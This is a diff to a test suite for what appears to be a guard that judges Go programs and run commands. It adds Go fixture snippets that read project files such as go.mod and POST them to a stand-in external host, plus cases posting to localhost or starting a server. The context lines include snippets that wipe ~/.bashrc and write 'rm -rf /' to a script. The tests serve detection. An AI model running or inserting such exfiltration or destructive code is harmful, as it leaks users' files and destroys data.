@@ -83,11 +83,29 @@ describe('Go', () => {
       'package main\nimport ("os/exec";"os")\nfunc main(){h,_ := os.UserHomeDir()\nos.WriteFile(filepath.Join(h,".bashrc"),nil,0o600)\n_ = exec.Command}\n',
       'go run ./cmd/z',
     ],
+    [
+      'posts a file of the project',
+      'cmd/z/main.go',
+      'package main\nimport ("net/http";"os")\nfunc main(){f, _ := os.Open("go.mod")\nhttp.Post("https://x.example.net/p", "text/plain", f)}\n',
+      'go run ./cmd/z',
+    ],
+    [
+      'posts a file that it is told',
+      'cmd/z/main.go',
+      'package main\nimport ("net/http";"os")\nfunc main(){b, _ := os.ReadFile(os.Args[1])\nhttp.Post("https://x.example.net/p", "text/plain", bytes.NewReader(b))}\n',
+      'go run ./cmd/z go.mod',
+    ],
   ])('raises the run: %s', async (_, path, content, run) => {
     expect(await loaded.verdict(path, content, run)).toBe('guarded');
   });
 
   it.each([
+    [
+      'a test that posts a fixture',
+      'pkg/up_test.go',
+      'package main\nimport ("net/http";"os")\nfunc TestUp(t *testing.T){f, _ := os.Open("go.mod")\nhttp.NewRequest("POST", "https://x.example.net/p", f)}\n',
+      'go test ./...',
+    ],
     [
       'other main',
       'cmd/z/main.go',
@@ -115,6 +133,18 @@ describe('Go', () => {
       'write',
       'cmd/z/main.go',
       'package main\nimport ("os/exec";"os")\nfunc sh(c string){exec.Command("sh","-c",c).Run()}\nfunc main(){os.WriteFile("x.sh",[]byte("rm -rf /"),0o755)\nrun("ls")\nt.Fatal("git push --force is bad")\n}\n',
+      'go run ./cmd/z',
+    ],
+    [
+      'a server',
+      'cmd/z/main.go',
+      'package main\nimport ("net/http";"os")\nfunc main(){b, _ := os.ReadFile("go.mod")\nhttp.ListenAndServe(":8080", nil)\n_ = b}\n',
+      'go run ./cmd/z',
+    ],
+    [
+      'posts to this machine',
+      'cmd/z/main.go',
+      'package main\nimport ("net/http";"os")\nfunc main(){f, _ := os.Open("go.mod")\nhttp.Post("http://localhost:8080/p", "text/plain", f)}\n',
       'go run ./cmd/z',
     ],
   ])('is unread code and nothing stricter: %s', async (_, path, content, run) => {
